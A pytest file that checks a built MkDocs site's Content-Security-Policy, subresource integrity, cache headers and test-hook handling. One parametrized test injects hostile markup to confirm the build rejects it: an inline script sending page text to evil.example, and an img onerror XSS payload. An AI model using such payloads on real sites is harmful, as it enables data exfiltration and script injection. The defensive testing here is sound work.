"""The built site, page by page: its policy parsed directive by directive, SRI on every load, the test hook.

`built_site` is the strict test build (tests/conftest.py); the other builds here are project copies.
"""

from __future__ import annotations

import base64
import hashlib
import json
import posixpath
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from policykit import as_sets, check_headers, expected_policy, parse_headers, parse_policy
from sitekit import ROOT, build_site, copy_project

WORKER = "assets/javascripts/workers/search.a7633da7.min.js"
LOCAL_WORKER = f"http://127.0.0.1:*/{WORKER} http://localhost:*/{WORKER}"  # mkdocs.yml: http://127.0.0.1:8000/
JS_TYPES = {"", "text/javascript", "module", "application/javascript"}
STYLESHEET = (ROOT / "content/assets/keyguide/keyguide.css").read_text(encoding="utf-8")


def _loader(site: Path) -> str:
    (found,) = (site / "assets/keyguide").glob("loader.*.js")
    return found.relative_to(site).as_posix()


class Page(HTMLParser):
    """An independent reading of a built page: head metas, inline scripts, loads."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.head_tags: list[tuple[str, dict[str, str]]] = []
        self.inline: list[tuple[dict[str, str], str]] = []
        self.loads: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []  # the text of each <style> element
        self._in_head = False
        self._in_style = False
        self._script: dict[str, str] | None = None
        self._text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "head":
            self._in_head = True
        elif self._in_head:
            self.head_tags.append((tag, values))
        if tag == "script" and "src" in values or tag == "link" and "stylesheet" in values.get("rel", "").split():
            self.loads.append((tag, values))
        elif tag == "script":
            self._script, self._text = values, []
        elif tag == "style":
            self._in_style = True
            self.styles.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self._in_head = False
        if tag == "style":
            self._in_style = False
        if tag == "script" and self._script is not None:
            self.inline.append((self._script, "".join(self._text)))
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._text.append(data)
        elif self._in_style:
            self.styles[-1] += data

    def hashes(self) -> list[str]:
        found = []
        for attrs, text in self.inline:
            if attrs.get("type", "").lower() in JS_TYPES:
                digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
                found.append(f"'sha256-{digest}'")
        return found

    def style_hashes(self) -> list[str]:
        return [f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" for text in self.styles]

    def meta_policy(self) -> str:
        policies = [
            a["content"]
            for t, a in self.head_tags
            if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"
        ]
        assert len(policies) == 1
        return policies[0]


def pages(site: Path) -> list[Path]:
    found = sorted(site.rglob("*.html"))
    assert len(found) > 10  # the real site: home, guides, cross-venue pages, 404
    return found


def test_every_page_policy_directive_by_directive(built_site: Path) -> None:
    for path in pages(built_site):
        page = Page(path.read_text(encoding="utf-8"))
        where = path.relative_to(built_site).as_posix()
        assert page.head_tags[0] == ("meta", {"charset": "utf-8"}), where
        assert page.head_tags[1][1].get("http-equiv") == "Content-Security-Policy", where
        assert ("meta", {"name": "referrer", "content": "no-referrer"}) in page.head_tags, where
        assert ("meta", {"http-equiv": "x-dns-prefetch-control", "content": "off"}) in page.head_tags, where
        hashes = page.hashes()
        assert 2 <= len(hashes) <= 4, where  # the theme's own: __md_scope, palette, tab target
        policy = parse_policy(page.meta_policy())
        # Our stylesheet, inlined: exactly that <style>, and the policy names it and no other.
        assert page.styles == [STYLESHEET], where
        assert as_sets(policy) == expected_policy(hashes, LOCAL_WORKER, styles=page.style_hashes()), where
        assert len(policy["script-src"]) == 2 + len(set(hashes)), where


def test_headers_file_carries_every_page_hash(built_site: Path) -> None:
    read = [Page(path.read_text(encoding="utf-8")) for path in pages(built_site)]
    union = sorted({h for page in read for h in page.hashes()})
    styles = sorted({h for page in read for h in page.style_hashes()})
    text = (built_site / "_headers").read_text(encoding="utf-8")
    long_cache = [path for path in parse_headers(text) if path != "/*"]
    check_headers(text, union, LOCAL_WORKER, styles=styles, long_cache=long_cache)
    # A year's cache only for files named by their content: ours by the first 12 hex digits of their SHA-256.
    ours = {path for path in long_cache if path.startswith("/assets/keyguide/")}
    assert {posixpath.basename(path).split(".")[0] for path in ours} >= {"loader", "checker"}
    # The snapshot and the trimmed standard library archive the page restores with (named by their digest).
    assert {posixpath.basename(path).split("-")[0] for path in ours} >= {"checker", "stdlib"}
    for path in ours:
        content = (built_site / path.lstrip("/")).read_bytes()
        digest = hashlib.sha256(content).hexdigest()
        assert digest[:12] in path or digest[:16] in path, path
    assert any(path.startswith("/assets/javascripts/bundle.") for path in long_cache)
    assert not [path for path in long_cache if "/pyodide/" in path or path.endswith((".json", ".whl"))]


def test_the_search_worker_is_the_one_worker_src_allows(built_site: Path) -> None:
    html = (built_site / "venues" / "kraken-spot" / "index.html").read_text(encoding="utf-8")
    config = json.loads(next(text for attrs, text in Page(html).inline if attrs.get("id") == "__config"))
    assert posixpath.normpath(posixpath.join("venues/kraken-spot", config["search"])) == WORKER
    assert (built_site / WORKER).is_file()


def test_every_script_and_stylesheet_has_integrity_of_the_published_bytes(built_site: Path) -> None:
    checked = set()
    for path in pages(built_site):
        page = Page(path.read_text(encoding="utf-8"))
        where = path.relative_to(built_site).as_posix()
        assert len(page.loads) >= 4, where  # theme bundle, the loader, theme CSS ×2 (keyguide.css is inline)
        for tag, attrs in page.loads:
            url = attrs["src"] if tag == "script" else attrs["href"]
            target = (built_site / url.lstrip("/")) if url.startswith("/") else (path.parent / url)
            content = target.resolve().read_bytes()
            expected = "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()
            assert attrs.get("integrity") == expected, f"{where}: {url}"
            assert attrs.get("crossorigin") == "anonymous", f"{where}: {url}"
            checked.add(target.resolve().relative_to(built_site.resolve()).as_posix())
    # The test build loads the browser tests' hook too; never checker.js itself, never keyguide.css (inline).
    ours = {name for name in checked if name.startswith("assets/keyguide/")}
    assert ours == {_loader(built_site), "assets/keyguide/test-hook.js"}
    assert any(name.startswith("assets/javascripts/bundle.") for name in checked)


def test_the_loader_names_checker_js_by_its_fingerprint_and_digest(built_site: Path) -> None:
    """Pages load only the loader; it adds checker.js with the integrity of the bytes the site publishes."""
    loader = (built_site / _loader(built_site)).read_text(encoding="utf-8")
    name = re.search(r'var CHECKER = "([^"]+)";', loader)
    integrity = re.search(r'var INTEGRITY = "([^"]+)";', loader)
    assert name and integrity, "the build did not write checker.js's name and digest into the loader"
    content = (built_site / "assets/keyguide" / name.group(1)).read_bytes()
    assert name.group(1) == f"checker.{hashlib.sha256(content).hexdigest()[:12]}.js"
    assert integrity.group(1) == "sha384-" + base64.b64encode(hashlib.sha384(content).digest()).decode()
    assert b"guardWindow" in content  # checker.js itself, not the loader again
    assert not (built_site / "assets/keyguide/checker.js").exists()


# ---- builds of project copies ----------------------------------------------------------------------------

HOOK = "// the browser tests' hook (a stand-in)\n"


@pytest.fixture(scope="module")
def production(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A production build (no KEYGUIDE_TEST_HOOK) for a GitHub Pages project site, with a hook file present."""
    project = copy_project(tmp_path_factory.mktemp("production"))
    (project / "content/assets/keyguide/test-hook.js").write_text(HOOK, encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            "site_url: http://127.0.0.1:8000/", "site_url: https://owner.github.io/keyguide/"
        ),
        encoding="utf-8",
    )
    site = project / "site"
    result = build_site(project, site, test_hook=False)
    assert result.returncode == 0, result.stderr
    return site, result.stderr


def test_production_builds_neither_ship_nor_load_the_test_hook(production: tuple[Path, str]) -> None:
    site, _ = production
    assert not (site / "assets/keyguide/test-hook.js").exists()
    for path in pages(site):
        assert "test-hook" not in path.read_text(encoding="utf-8"), path


def test_test_builds_load_the_hook_right_before_the_loader(tmp_path: Path) -> None:
    project = copy_project(tmp_path)
    (project / "content/assets/keyguide/test-hook.js").write_text(HOOK, encoding="utf-8")
    site = tmp_path / "site"
    result = build_site(project, site, test_hook=True)
    assert result.returncode == 0, result.stderr
    assert (site / "assets/keyguide/test-hook.js").read_text(encoding="utf-8") == HOOK
    page = Page((site / "venues/kraken-spot/index.html").read_text(encoding="utf-8"))
    sources = [attrs["src"] for tag, attrs in page.loads if tag == "script"]
    hook = sources.index("../../assets/keyguide/test-hook.js")
    assert re.fullmatch(r"\.\./\.\./assets/keyguide/loader\.[0-9a-f]{12}\.js", sources[hook + 1]), sources


def test_a_site_under_a_path_refuses_the_checker_and_names_its_worker(production: tuple[Path, str]) -> None:
    site, log = production
    assert "the key checker will refuse to start: site_url https://owner.github.io/keyguide/ is under a path" in log
    worker = f"https://owner.github.io/keyguide/{WORKER}"
    for path in pages(site):
        page = Page(path.read_text(encoding="utf-8"))
        expected = expected_policy(page.hashes(), worker, styles=page.style_hashes())
        assert as_sets(parse_policy(page.meta_policy())) == expected, path
    # 404.html links its assets by absolute path under the site's path; each still gets its integrity.
    not_found = Page((site / "404.html").read_text(encoding="utf-8"))
    assert all(attrs["src"].startswith("/keyguide/assets/") for tag, attrs in not_found.loads if tag == "script")
    assert all("integrity" in attrs for _, attrs in not_found.loads)


@pytest.mark.parametrize(
    ("markup", "problem"),
    [
        ("<script>fetch('https://evil.example/?k=' + document.body.innerText)</script>", "an inline <script>"),
        ('<img src="assets/keyguide/x.png" onerror="alert(1)">', "event-handler attribute onerror= on <img>"),
    ],
)
def test_markup_in_a_page_stops_the_build_naming_the_page(tmp_path: Path, markup: str, problem: str) -> None:
    project = copy_project(tmp_path)
    page = project / "content" / "security.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n\n{markup}\n", encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert result.returncode != 0
    lines = [line for line in result.stderr.splitlines() if "pages may run only the theme's own scripts" in line]
    assert len(lines) == 1, result.stderr
    assert "security.md: " in lines[0] and problem in lines[0]
    assert "Traceback" not in result.stderr


def test_mkdocs_yml_site_url_is_the_one_the_tests_expect() -> None:
    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+/", config["site_url"])


def test_runtime_json_names_the_published_wheel_by_its_digest(built_site: Path) -> None:
    """The page checks the wheel against this digest before unpacking it (checker.js)."""
    runtime = json.loads((built_site / "assets/keyguide/runtime.json").read_text(encoding="utf-8"))
    wheel = (built_site / "assets/keyguide" / runtime["wheel"]).read_bytes()
    assert re.fullmatch(r"keyguide_checker-[\w.]+-py3-none-any\.whl", runtime["wheel"])
    assert hashlib.sha256(wheel).hexdigest() == runtime["sha256"]
